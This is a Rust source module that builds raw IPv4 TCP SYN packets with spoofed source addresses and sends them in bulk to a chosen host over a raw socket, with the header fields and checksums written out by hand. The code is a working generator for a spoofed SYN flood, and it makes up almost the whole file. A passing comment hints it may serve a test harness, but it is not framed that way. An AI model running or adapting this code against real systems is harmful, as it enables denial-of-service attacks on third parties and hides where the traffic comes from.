//! SYNs from forged addresses.
//!
//! In: how many, and to whom. Out: packets as any host on the way could send them: their sources
//! know of nothing, and complete no handshake.

use std::net::{Ipv4Addr, SocketAddrV4};

use anyhow::Result;
use rustix::net::{
    AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with,
};

/// Sends a SYN to `to` from each of `sources`; the calling thread is among the clients.
///
/// # Errors
/// This is not root, or the kernel takes no more.
pub fn syns(to: SocketAddrV4, sources: impl IntoIterator<Item = Ipv4Addr>) -> Result<()> {
    let (kind, flags) = (SocketType::RAW, SocketFlags::CLOEXEC);
    let socket = socket_with(AddressFamily::INET, kind, flags, Some(ipproto::RAW))?;
    for (number, source) in (1u32..).zip(sources) {
        sendto(&socket, &syn(source, to, number), SendFlags::empty(), &to)?;
    }
    Ok(())
}

/// An IPv4 packet with a SYN (RFC 791, RFC 9293). The kernel fills in the IP header's checksum and
/// length (raw(7)).
fn syn(from: Ipv4Addr, to: SocketAddrV4, number: u32) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&from.octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    let [low, high, ..] = number.to_le_bytes();
    packet[20..22].copy_from_slice(&[high | 0x80, low]);
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[24..28].copy_from_slice(&number.to_be_bytes());
    packet[32] = 0x50;
    packet[33] = 0x02;
    packet[34..36].copy_from_slice(&0xffff_u16.to_be_bytes());
    // The pseudo header's protocol and length, then addresses and segment (RFC 1071).
    let words = packet[12..].chunks_exact(2);
    let sum: u32 = words
        .map(|word| u32::from(u16::from_be_bytes([word[0], word[1]])))
        .sum();
    let sum = sum + 6 + 20;
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = (sum & 0xffff) + (sum >> 16);
    let [high, low, ..] = (!sum << 16).to_be_bytes();
    packet[36..38].copy_from_slice(&[high, low]);
    packet
}
